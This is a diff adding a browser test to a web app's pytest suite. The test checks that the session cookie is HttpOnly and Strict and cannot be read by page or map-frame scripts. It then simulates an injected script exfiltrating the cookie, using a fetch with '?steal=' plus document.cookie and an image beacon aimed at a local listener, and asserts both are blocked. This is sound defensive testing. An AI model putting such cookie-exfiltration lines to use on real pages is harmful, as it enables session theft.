@@ -5,7 +5,7 @@ import shutil
 
 import pytest
 
-from .conftest import add_user, sign_in, start_app, stop_app, wait_for_app, wait_idle
+from .conftest import add_user, map_ready, sign_in, start_app, stop_app, wait_for_app, wait_idle
 
 pytestmark = pytest.mark.browser
 DROPZONE = '[data-testid="stFileUploaderDropzoneInput"]'
@@ -129,3 +129,50 @@ def test_aggregate_pages_closed_when_public_access_is_off(closed_app, offline):
     page.goto(closed_app + "/?gelombang=IX")
     wait_for_app(page)
     assert page.locator('[data-testid="stMetric"]').count() > 0
+
+
+def test_no_script_can_read_the_session_token(app, offline):
+    """Defence in depth behind the escaping: even a script running in the page or in the map's
+    frame finds no session token, and cannot send anything to another server."""
+    import socket
+    import threading
+
+    page = offline.page()
+    sign_in(page, app, "kepala")
+    page.goto(app + "/")
+    wait_for_app(page)
+    frame = map_ready(page)
+    cookie = next(c for c in offline.context.cookies() if c["name"] == "atlas_session")
+    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
+    for doc in (page, frame):
+        assert "atlas_session" not in doc.evaluate("() => document.cookie")
+        assert cookie["value"] not in doc.evaluate("() => document.documentElement.outerHTML")
+
+    # What an injected script would do next: send data elsewhere. The policy stops it.
+    listener = socket.create_server(("127.0.0.1", 0))
+    port = listener.getsockname()[1]
+    seen: list[bytes] = []
+
+    def accept():
+        listener.settimeout(5)
+        try:
+            conn, _ = listener.accept()
+            seen.append(conn.recv(100))
+            conn.close()
+        except OSError:
+            pass
+
+    thread = threading.Thread(target=accept)
+    thread.start()
+    result = frame.evaluate(
+        """(port) => fetch('http://127.0.0.1:' + port + '/?steal=' + document.cookie)
+               .then(() => 'sent', e => 'blocked: ' + e)""",
+        port,
+    )
+    frame.evaluate("(port) => { new Image().src = 'http://127.0.0.1:' + port + '/img'; }", port)
+    thread.join()
+    listener.close()
+    assert result.startswith("blocked") and seen == []
+    page.reload()
+    wait_idle(page)
+    assert "Masuk sebagai" in page.inner_text("body")  # the HttpOnly cookie still signs in
